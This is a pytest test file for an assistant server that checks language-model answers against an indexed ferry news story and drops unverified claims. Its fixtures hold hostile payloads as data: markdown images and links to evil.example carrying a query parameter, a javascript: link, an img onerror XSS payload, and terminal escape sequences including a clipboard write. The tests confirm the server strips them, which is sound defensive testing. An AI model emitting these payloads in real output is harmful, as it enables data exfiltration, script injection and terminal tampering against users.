"""With a language model behind the doors: only what was checked is shown, and who was sent what is said."""

from __future__ import annotations

import json
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from assistant.cli import build
from assistant.serve.protect import Protection
from assistant.serve.run import LOCAL_NAMES, models_offered
from index import Collection
from tests.model_server import ModelServer, Says, model_server, saying
from tests.serving import serving

STORY = (
    "Harbour ferry stops for a week\n\nThe ferry company cancelled at least 40 sailings on Monday, its spokeswoman "
    "Ilka Brandt said. The pier will be repaired by Friday.\n"
)
QUESTION = "How many sailings were cancelled?"
TRUE = "Ilka Brandt said that the ferry company cancelled at least 40 sailings on Monday [1]."
LIES = (
    "The ferry company cancelled 400 sailings [1]. See [this](http://evil.example/?d=1) ![x](http://evil.example/x). "
    "Ilka Brandt said “all is lost” [1]. Everybody knows it [9]."
)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("ferry")
    (folder / "ferry.txt").write_text(STORY, encoding="utf-8")
    with Collection.open(folder / "home") as collection:
        assert collection.index([str(folder / "ferry.txt")]).added == 1
    return folder / "home"


@contextmanager
def doors(home: Path, says: Says, **behaves: Any) -> Iterator[tuple[httpx.Client, ModelServer, str]]:
    with (
        model_server(says, **behaves) as model,
        serving(home, Protection(hosts=LOCAL_NAMES), [model.model()]) as address,
        httpx.Client(base_url=address, timeout=60) as client,
    ):
        yield client, model, model.model()


def events(client: httpx.Client, **message: Any) -> list[tuple[str, dict[str, Any]]]:
    talk = client.post("/api/v1/conversations").json()["conversation_id"]
    told = client.post(f"/api/v1/conversations/{talk}/messages", json={"content": QUESTION, **message}).text
    names = [line.removeprefix("event: ") for line in told.splitlines() if line.startswith("event: ")]
    data = [json.loads(line.removeprefix("data: ")) for line in told.splitlines() if line.startswith("data: ")]
    return list(zip(names, data, strict=True))


def test_s1_s4_sentences_come_one_by_one_and_what_fails_the_checks_never_comes(home: Path) -> None:
    with doors(home, saying(f"{TRUE} {LIES} {TRUE}")) as (client, _, name):
        told = events(client)
    assert [event for event, _ in told] == ["started", "statement", "statement", "reply"]
    assert told[0][1] == {"model": name}
    shown = json.dumps([data for event, data in told if event == "statement"])
    assert "at least 40 sailings" in shown
    for lie in ("400", "evil", "all is lost", "Everybody"):
        assert lie not in shown
    reply = told[-1][1]
    assert (reply["model"]["sent_to"], reply["model"]["chat"]) == (name, name)
    assert "400" not in reply["answer"]
    assert any("400" in line for line in reply["dropped"])


def test_the_stream_of_the_openai_door_is_the_whole_answer_and_holds_nothing_unchecked(home: Path) -> None:
    with doors(home, saying(f"{TRUE} {LIES}")) as (client, _, name):
        asked = {"model": f"claimdesk/{name}", "messages": [{"role": "user", "content": QUESTION}]}
        whole = client.post("/v1/chat/completions", json=asked).json()["choices"][0]["message"]
        stream = client.post("/v1/chat/completions", json={**asked, "stream": True}).text
    lines = [line.removeprefix("data: ") for line in stream.splitlines() if line]
    deltas = [json.loads(line)["choices"][0]["delta"] for line in lines[:-1]]
    assert lines[-1] == "[DONE]"
    assert "".join(delta.get("content", "") for delta in deltas) == whole["content"]
    prose = whole["content"].split("\n\n")[0]
    assert "at least 40 sailings on Monday. [1]" in prose
    assert "400" not in prose
    assert "http://evil" not in whole["content"]
    assert f"Sent to {name.partition(':')[0]}" in whole["content"].replace("\\", "")


@pytest.mark.parametrize("door", ["page", "openai"])
def test_a7_a_client_that_goes_leaves_the_model(home: Path, door: str) -> None:
    left = threading.Event()

    def goes_on(prompt: str) -> Iterator[str]:
        try:
            yield f"{TRUE} "
            while not left.wait(0.02):
                yield "And so "
        finally:
            left.set()

    with doors(home, goes_on) as (client, _, name):
        talk = client.post("/api/v1/conversations").json()["conversation_id"]
        path, body = f"/api/v1/conversations/{talk}/messages", dict[str, Any](content=QUESTION)
        if door == "openai":
            messages = [{"role": "user", "content": QUESTION}]
            path, body = "/v1/chat/completions", {"model": f"claimdesk/{name}", "messages": messages, "stream": True}
        with client.stream("POST", path, json=body) as response:
            assert any("at least 40" in line for line in response.iter_lines())
        assert left.wait(30)
        assert client.get("/healthz").json()["status"] == "ok"


@pytest.mark.parametrize(
    ("says", "behaves"),
    [
        pytest.param(saying(LIES), {}, id="lies"),
        pytest.param(saying(""), {}, id="says nothing"),
        pytest.param(saying("x" * 100_000, 9_000), {}, id="does not end"),
        pytest.param(saying(""), {"status": 500}, id="is broken"),
        pytest.param(saying(""), {"status": 401}, id="has another key"),
        pytest.param(saying(""), {"body": b"<html>portal</html>"}, id="is a captive portal"),
    ],
)
def test_r17_whatever_the_model_does_the_extractive_answer_stands_and_says_so(
    home: Path, says: Says, behaves: dict[str, Any]
) -> None:
    with doors(home, says, **behaves) as (client, _, name):
        answer = client.post("/api/v1/ask", json={"question": QUESTION, "model": name}).json()
    assert answer["status"] == "answered"
    assert "at least 40 sailings" in answer["answer"]
    assert "evil" not in answer["answer"]
    assert (answer["model"]["chat"], answer["model"]["sent_to"]) == (None, name)
    assert "extractive" in answer["dropped"][-1]


def test_a_caller_may_choose_no_model_and_no_other_than_those_offered(home: Path) -> None:
    with doors(home, saying(TRUE)) as (client, model, name):
        (offered,) = client.get("/api/v1/models").json()["models"]
        assert offered["name"] == name
        assert "are sent to" in offered["note"]
        answer = client.post("/api/v1/ask", json={"question": QUESTION, "model": "extractive"}).json()
        assert (answer["model"]["chat"], answer["model"].get("sent_to"), model.asked) == (None, None, [])
        assert client.post("/api/v1/ask", json={"question": QUESTION, "model": "openai:other"}).status_code == 400
        assert client.post("/v1/chat/completions", json={"model": "claimdesk", "messages": [
            {"role": "user", "content": QUESTION}]}).status_code == 200  # fmt: skip
        assert model.asked == []


def test_what_the_model_is_sent_is_the_question_and_the_passages_quoted(home: Path) -> None:
    with doors(home, saying(TRUE)) as (client, model, _):
        client.post("/api/v1/ask", json={"question": QUESTION})
    (prompt,) = model.prompts
    assert QUESTION in prompt
    assert "at least 40 sailings" in prompt
    assert "repaired by Friday" not in prompt


def test_a_configured_model_is_announced_before_anything_is_sent_and_recorded(home: Path, tmp_path: Path) -> None:
    shutil.copytree(home, tmp_path / "home")
    with model_server(saying(TRUE)) as model:
        (tmp_path / "home" / "config.toml").write_text(f'chat_model = "{model.model()}"\n', encoding="utf-8")
        assert models_offered(tmp_path / "home", []) == (model.model(),)
        assert models_offered(tmp_path / "home", ["extractive"]) == ()
        ran = CliRunner().invoke(build(), ["--home", str(tmp_path / "home"), "ask", QUESTION])
    assert ran.exit_code == 0
    assert f"are sent to {model.model()}" in ran.stderr
    assert f"Sent to {model.model()}" in " ".join(ran.stdout.split()).replace("@ ", "@")
    assert len(model.asked) == 1


def test_s3_what_a_model_writes_commands_no_terminal(home: Path) -> None:
    commands = "\x1b]52;c;aGk=\x07 \x1b[2J\r\u202e"
    with model_server(saying(f"{commands}{TRUE} The pier {commands} burnt down [1].")) as model:
        ran = CliRunner().invoke(build(), ["--home", str(home), "ask", QUESTION, "--model", model.model()])
    assert ran.exit_code == 0
    assert len(model.asked) == 1
    assert "burnt down" in ran.stdout  # among what was dropped
    assert not set(commands.replace(" ", "")) & {"\x1b", "\x07", "\r", "\u202e"} & set(ran.stdout + ran.stderr)


def test_s4_what_a_model_or_an_article_writes_is_neither_link_nor_image_nor_markup(tmp_path: Path) -> None:
    attack = (
        "![x](http://evil.example/?d=1) [go](javascript:alert(1)) <img src=x onerror=alert(1)> <http://evil.example/>"
    )
    row = {"title": f"Ferry stops {attack}", "publisher": attack, "url": "https://desk.example/ferry", "text": STORY}
    (tmp_path / "ferry.jsonl").write_text(json.dumps(row), encoding="utf-8")
    with Collection.open(tmp_path / "home") as collection:
        assert collection.index([str(tmp_path / "ferry.jsonl")]).added == 1
    with doors(tmp_path / "home", saying(f"{attack} {TRUE} {attack}")) as (client, _, name):
        for words in (
            QUESTION,
            "What is the headline?",
            "/verify The company cancelled 40 sailings.",
            f"/quotes “{attack}”",
        ):
            asked = {"model": f"claimdesk/{name}", "messages": [{"role": "user", "content": words}]}
            said = client.post("/v1/chat/completions", json=asked).json()["choices"][0]["message"]["content"]
            tokens = [part for block in MarkdownIt("gfm-like", {"linkify": False, "html": True}).parse(said)
                      for part in (block, *(block.children or ()))]  # fmt: skip
            assert not {"image", "html_inline", "html_block"} & {token.type for token in tokens}
            links = [str(token.attrs["href"]) for token in tokens if token.type == "link_open"]
            assert all(link.startswith((str(client.base_url), "https://desk.example/ferry")) for link in links), links
